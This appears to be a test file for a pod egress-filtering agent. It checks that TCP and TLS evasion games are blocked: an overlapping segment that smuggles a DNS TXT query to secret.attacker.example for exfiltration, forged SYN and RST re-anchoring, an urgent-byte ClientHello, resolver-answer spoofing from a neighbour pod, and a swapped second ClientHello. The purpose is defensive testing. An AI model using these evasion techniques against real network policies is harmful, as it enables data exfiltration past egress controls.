/*
 * The attacker's file, TCP edition: a shell with CAP_NET_RAW in an enforced
 * pod plays games with the sequence space of its own connections (crafted
 * segments aimed with numbers sniffed from its interface, urgent data) so
 * that what the kernel judged differs from what the server reads; a
 * neighbour pod forges the resolver's answers. Each test shows one escape
 * closed end to end: the real agent (file source), a real dnsmasq that logs
 * every query, a real TLS server that records every server name its TLS
 * stack reads, real TCP stacks on both sides. The packet-level versions,
 * and a fuzz run of the same games, are in test/kernel/tcp-stream.test.ts.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import dnsPacket from 'dns-packet';
import { requireKernelTestEnv, OUTSIDE_LINK_V4, SILENT_RESOLVER } from '../helpers/topology.js';
import { withAgentBox, type AgentBox } from '../helpers/agent-fixture.js';
import {
  withCert,
  startTlsServer,
  sClient,
  TLS_PORT,
  PY_FINISH_HANDSHAKE,
  type TlsServers,
} from '../helpers/tls-server.js';
import { realClientHellos, urgentByteHello } from '../helpers/client-hello.js';
import { tcpSession, type SessionResult, type Step } from '../helpers/tcp-games.js';
import { queriesFor, withQueryLogFile } from '../helpers/query-log.js';
import { LearnerHarness } from '../helpers/learner-harness.js';
import { formatIp } from '../../agent/net/addr.js';

const TOOLS = ['dnsmasq', 'dig', 'python3', 'openssl', 'nsenter', 'curl'];
const RESOLVER = OUTSIDE_LINK_V4.outside;
const TLS_SERVER = '203.0.113.10'; // api.stripe.test, and any other name the server is asked for
const SECRET = 'secret.attacker.example';
const LEAKED = 'exfiltrated-by-tcp'; // the TXT record the attacker's zone serves

/** A query as a client writes it. */
function query(name: string, type: dnsPacket.RecordType, id: number): Buffer {
  return dnsPacket.encode({
    type: 'query',
    id,
    flags: dnsPacket.RECURSION_DESIRED,
    questions: [{ type, name, class: 'IN' }],
  });
}

/** The TXT records in a DNS-over-TCP stream, as text. */
function txtAnswers(stream: Buffer): string[] {
  const out: string[] = [];
  for (let at = 0; at + 2 <= stream.length; at += 2 + stream.readUInt16BE(at)) {
    const m = dnsPacket.decode(stream.subarray(at + 2, at + 2 + stream.readUInt16BE(at)));
    for (const a of m.answers ?? []) if (a.type === 'TXT') out.push(`${a.name} TXT ${(a.data as Buffer[]).join('')}`);
  }
  return out;
}

function allowedIps(box: AgentBox): string[] {
  return box.maps((dp) => dp.maps.allow.entries().map(([k]) => formatIp(k.addr)));
}

test('DNS over TCP: an allowed query whose segment overlaps bytes the resolver already has cannot carry a second query past the filter', async (t) => {
  if (!requireKernelTestEnv(t, TOOLS)) return;
  await withQueryLogFile(async (log) => {
    const dnsmasqArgs = ['--log-queries', `--log-facility=${log}`, `--txt-record=${SECRET},${LEAKED}`];
    await withAgentBox(t, [{ name: 'a' }], { dnsmasqArgs }, async (box) => {
      box.writePods([{ name: 'a', allow: 'api.stripe.test' }]);
      await box.startAgent();
      // [len][allowed query][len2][TXT query for the secret], placed so that its
      // first d bytes (the prefix and the allowed query) lie before the resolver's
      // next expected byte: the filter reads one allowed message (the rest
      // trailing it), the resolver drops the old bytes and reads the second query
      const allowed = query('api.stripe.test', 'A', 0x1111);
      const secret = query(SECRET, 'TXT', 0x2222);
      const d = 2 + allowed.length;
      const overlap = LearnerHarness.tcpPayload(Buffer.concat([allowed, LearnerHarness.tcpPayload(secret)]));
      const r = await tcpSession(box.topo, 'a', RESOLVER, 53, [
        { op: 'raw', flags: 'PA', seq: -d, payload: overlap },
        { op: 'recv', seconds: 2 },
      ]);
      assert.deepEqual(txtAnswers(r.sniffed), [], 'no TXT answer reaches the pod (its interface, sniffed)');
      assert.deepEqual(queriesFor(log, SECRET), [], 'the resolver never saw the second query');

      // the legitimate use: dig over TCP, and two queries on one connection
      assert.deepEqual(
        await box.dig('a', 'api.stripe.test', 'A', { tcp: true }),
        ['203.0.113.10'],
        'dig +tcp of an allowed name',
      );
      const keepopen = await box.topo.exec(box.topo.pod('a').netns, [
        'dig',
        `@${RESOLVER}`,
        '+tcp',
        '+keepopen',
        '+short',
        '+time=2',
        '+tries=1',
        'api.stripe.test',
        'A',
        'api.stripe.test',
        'AAAA',
      ]);
      assert.deepEqual(
        keepopen.stdout.trim().split('\n'),
        ['203.0.113.10', '2001:db8:ff::10'],
        `two queries on one connection (dig +keepopen): ${keepopen.stdout}`,
      );
    });
  });
});

/** A real TLS server for the tls rule, the pod allowed api.stripe.test on it and its address learned. */
async function withTlsBox(
  t: Parameters<typeof requireKernelTestEnv>[0],
  fn: (box: AgentBox, servers: TlsServers) => Promise<void>,
  server: { groups?: 'P-256' } = {},
): Promise<void> {
  await withCert(async (cert, key) => {
    await withAgentBox(t, [{ name: 'a' }], {}, async (box) => {
      const servers = await startTlsServer(box.topo, cert, key, [TLS_SERVER], server);
      box.writePods([{ name: 'a', allow: `api.stripe.test:${TLS_PORT}/tls` }]);
      await box.startAgent();
      assert.deepEqual(await box.dig('a', 'api.stripe.test'), [TLS_SERVER]);
      await fn(box, servers);
    });
  });
}

/**
 * The server read no hello for the refused name, and a normal connection to
 * the allowed name still completes. The control's name reaches the server
 * log after the attack's would have (the attack's hello went out seconds
 * earlier), so its absence then is not a race.
 */
async function assertOnlyAllowedNameRead(
  box: AgentBox,
  servers: TlsServers,
  attack: Pick<SessionResult, 'error' | 'received'>,
  refused: string,
): Promise<void> {
  const before = servers.serverNames().filter((n) => n === 'api.stripe.test').length;
  const ok = await sClient(box.topo, 'a', TLS_SERVER, 'api.stripe.test');
  assert.ok(ok.ok, `a normal connection to the allowed name completes: ${ok.text}`);
  await box.waitFor(
    'the control hello in the server log',
    () => servers.serverNames().filter((n) => n === 'api.stripe.test').length > before,
  );
  assert.deepEqual(
    servers.serverNames().filter((n) => n === refused),
    [],
    `the server never read a hello naming ${refused} (it read: ${servers.serverNames().join(', ')}; the attacker's socket: ${attack.error ?? 'no error'}, ${attack.received.length} bytes back)`,
  );
  assert.equal(attack.received.length, 0, 'no ServerHello reached the pod');
}

const [HELLO_ALLOWED, HELLO_REFUSED] = realClientHellos([
  { serverName: 'api.stripe.test' },
  { serverName: 'blocked.test' },
]) as [Buffer, Buffer];

/**
 * The re-anchoring game, after the steps `first`: a SYN at ISN - d (a
 * parser anchored on it takes the next d bytes as the stream's first), d
 * bytes of a hello for the allowed name there (the server, already past its
 * handshake, answers the SYN with a challenge ACK and drops those bytes as
 * old), then the real hello, naming blocked.test, from the socket.
 */
async function reanchor(box: AgentBox, servers: TlsServers, first: Step[] = []): Promise<void> {
  const d = HELLO_ALLOWED.length;
  const attack = await tcpSession(box.topo, 'a', TLS_SERVER, TLS_PORT, [
    ...first,
    { op: 'raw', flags: 'S', seq: -d - 1 },
    { op: 'pause', ms: 20 },
    { op: 'raw', flags: 'PA', seq: -d, payload: HELLO_ALLOWED },
    { op: 'pause', ms: 20 },
    { op: 'send', data: HELLO_REFUSED },
    { op: 'recv', seconds: 2 },
  ]);
  await assertOnlyAllowedNameRead(box, servers, attack, 'blocked.test');
}

test('TLS check: a forged SYN with an earlier sequence number does not move the parser: d bytes of an allowed hello "before" the stream, then a hello naming another server, are refused', async (t) => {
  if (!requireKernelTestEnv(t, TOOLS)) return;
  await withTlsBox(t, (box, servers) => reanchor(box, servers));
});

test('TLS check: a pod RST while the check is pending refuses the flow, so an out-of-window RST and a forged SYN cannot restart the check', async (t) => {
  if (!requireKernelTestEnv(t, TOOLS)) return;
  // the server drops a RST outside its window; a kernel that takes it as the
  // flow's end judges the SYN after it as a new flow, anchored on it
  await withTlsBox(t, (box, servers) =>
    reanchor(box, servers, [
      { op: 'raw', flags: 'R', seq: 0x40000000 },
      { op: 'pause', ms: 20 },
    ]),
  );
});

test('TLS check: one urgent byte (MSG_OOB, no privilege) cannot make the parser and the server read different hellos', async (t) => {
  if (!requireKernelTestEnv(t, TOOLS)) return;
  await withTlsBox(t, async (box, servers) => {
    // the parser, keeping the urgent byte, meets a server_name for
    // api.stripe.test hidden in a GREASE extension; the server, which takes
    // the urgent byte out of the stream, reads blocked.test
    const hello = urgentByteHello(HELLO_REFUSED, 'blocked.test', 'api.stripe.test');
    const attack = await tcpSession(box.topo, 'a', TLS_SERVER, TLS_PORT, [
      { op: 'send', data: hello.sent.subarray(0, hello.urgentAt + 1), oob: true },
      { op: 'pause', ms: 50 },
      { op: 'send', data: hello.sent.subarray(hello.urgentAt + 1) },
      { op: 'recv', seconds: 2 },
    ]);
    await assertOnlyAllowedNameRead(box, servers, attack, 'blocked.test');
  });
});

/**
 * How the datapath reports an answer it refused for its path (the forged
 * one below): a metric whose line names "rpf" or the reason
 * "spoofed-answer". The one place to adapt when the name settles.
 */
const SPOOFED_ANSWER_METRIC = /rpf|spoofed-answer/i;

async function spoofedAnswersCounted(box: AgentBox): Promise<number> {
  let total = 0;
  for (const line of (await box.metricsText()).split('\n')) {
    if (!line.startsWith('#') && SPOOFED_ANSWER_METRIC.test(line)) total += Number(line.split(' ').pop());
  }
  return total;
}

test("a neighbour pod forging the resolver's answers teaches nothing: the answer must come from where the node routes to the resolver", async (t) => {
  if (!requireKernelTestEnv(t, TOOLS)) return;
  await withAgentBox(t, [{ name: 'a' }, { name: 'b' }], {}, async (box) => {
    box.writePods([{ name: 'a', allow: 'api.stripe.test' }, { name: 'b' }]); // b: no annotation, not enforced
    await box.startAgent();
    const a = box.topo.pod('a');
    const b = box.topo.pod('b');
    // b takes the trusted resolver's address; the node forwards what it sends
    // (rp_filter off, as on nodes whose CNI turns it off)
    for (const conf of ['all', 'default', b.hostIf])
      await box.topo.exec(box.topo.nodeNs, ['sysctl', '-qw', `net.ipv4.conf.${conf}.rp_filter=0`]);
    await box.topo.ip(b.netns, 'addr', 'add', `${SILENT_RESOLVER}/32`, 'dev', 'eth0');
    const ask = (id: number, sport: number) =>
      box.topo.queryFrom(a.netns, SILENT_RESOLVER, 'api.stripe.test', id, sport);
    const forge = (ns: string, id: number, sport: number, answer: string) =>
      box.topo.forgeAnswerFrom(ns, {
        from: SILENT_RESOLVER,
        to: a.v4,
        port: sport,
        id,
        name: 'api.stripe.test',
        answer,
      });
    const FORGED = '198.51.100.10'; // a real server listens there

    await ask(300, 45300);
    await forge(b.netns, 300, 45300, FORGED);
    assert.equal(await box.connect('a', FORGED, 443), false, 'the enforced pod cannot connect to the forged address');
    assert.ok(!allowedIps(box).includes(FORGED), 'the forged address was not learned');
    await box.waitFor('the forged answer counted as refused', async () => (await spoofedAnswersCounted(box)) > 0);

    // the real path still teaches: the same resolver's answer from outside
    await ask(301, 45301);
    await forge(box.topo.outNs, 301, 45301, '198.51.100.11');
    await box.waitFor("the answer from the resolver's side learned", () => allowedIps(box).includes('198.51.100.11'));
    assert.equal(await box.connect('a', '198.51.100.11', 443), true);
    assert.deepEqual(await box.dig('a', 'api.stripe.test'), ['203.0.113.10'], 'and the real resolver too');
    assert.equal(await box.connect('a', '203.0.113.10', 443), true);
    assert.equal(await box.connect('a', FORGED, 443), false, 'the forged address stays refused');
  });
});

/**
 * A real TLS 1.3 client (Python's ssl, OpenSSL) in the pod, naming
 * api.stripe.test; the server asks it for another key share. "legit": the
 * handshake goes on to the end. "attack": the client's answer to the retry
 * request is sent up to its ChangeCipherSpec, then the attacker's own
 * second ClientHello in place of the client's.
 */
const RETRY_CLIENT = `
import socket, ssl, sys, json, select, time
${PY_FINISH_HANDSHAKE}
ip, port, mode, ch2 = sys.argv[1], int(sys.argv[2]), sys.argv[3], bytes.fromhex(sys.argv[4])
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
conn = ctx.wrap_bio(inc, out, server_hostname='api.stripe.test')
res = {'retry': False, 'ccsFirst': False, 'ok': False, 'error': None, 'received': ''}
def step():
    try:
        conn.do_handshake()
        return True
    except ssl.SSLWantReadError:
        return False
step()
s = socket.create_connection((ip, port), timeout=3)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
try:
    s.sendall(out.read())
    first = b''
    while len(first) < 5 or len(first) < 5 + int.from_bytes(first[3:5], 'big'):
        data = s.recv(65536)
        if not data:
            raise ConnectionError('closed by the server')
        first += data
    res['retry'] = first[11:43].hex().startswith('cf21ad74e59a6111')
    inc.write(first)
    step()
    flight = out.read()
    res['ccsFirst'] = flight[:6] == bytes.fromhex('140303000101')
    if mode == 'attack':
        s.sendall(flight[:6] if res['ccsFirst'] else b'')
        time.sleep(0.05)
        s.sendall(ch2)
        got, end = b'', time.monotonic() + 2
        while time.monotonic() < end:
            r, _, _ = select.select([s], [], [], end - time.monotonic())
            if r:
                data = s.recv(65536)
                if not data:
                    break
                got += data
        res['received'] = got.hex()
    else:
        s.sendall(flight)
        finish(conn, inc, out, s)
        res['ok'] = True
except Exception as e:
    res['error'] = repr(e)
print(json.dumps(res))
`;

async function retryClient(
  box: AgentBox,
  mode: 'legit' | 'attack',
  ch2: Buffer = Buffer.alloc(0),
): Promise<{ retry: boolean; ccsFirst: boolean; ok: boolean; error: string | null; received: Buffer }> {
  const r = await box.topo.exec(box.topo.pod('a').netns, [
    'python3',
    '-c',
    RETRY_CLIENT,
    TLS_SERVER,
    String(TLS_PORT),
    mode,
    ch2.toString('hex'),
  ]);
  const out = JSON.parse(r.stdout.trim().split('\n').pop()!) as {
    retry: boolean;
    ccsFirst: boolean;
    ok: boolean;
    error: string | null;
    received: string;
  };
  return { ...out, received: Buffer.from(out.received, 'hex') };
}

test("TLS check: after a real HelloRetryRequest, the second ClientHello (sent after the client's ChangeCipherSpec, as OpenSSL does) must name the same server", async (t) => {
  if (!requireKernelTestEnv(t, TOOLS)) return;
  await withTlsBox(
    t,
    async (box, servers) => {
      const legit = await retryClient(box, 'legit');
      assert.ok(legit.retry, 'the server asked for another key share (a HelloRetryRequest)');
      assert.ok(legit.ccsFirst, 'the real client answers it with a ChangeCipherSpec, then its second ClientHello');
      assert.ok(legit.ok, `a handshake with a retry, the same name twice, completes: ${legit.error}`);
      // the attacker's second ClientHello: a real one for blocked.test, its key share for the group asked for
      const [ch2] = realClientHellos([{ serverName: 'blocked.test', groups: 'P-256' }]) as [Buffer];
      const attack = await retryClient(box, 'attack', ch2);
      assert.ok(attack.retry && attack.ccsFirst, `the attack went as far as its second hello: ${attack.error}`);
      await assertOnlyAllowedNameRead(box, servers, attack, 'blocked.test');
    },
    { groups: 'P-256' },
  );
});
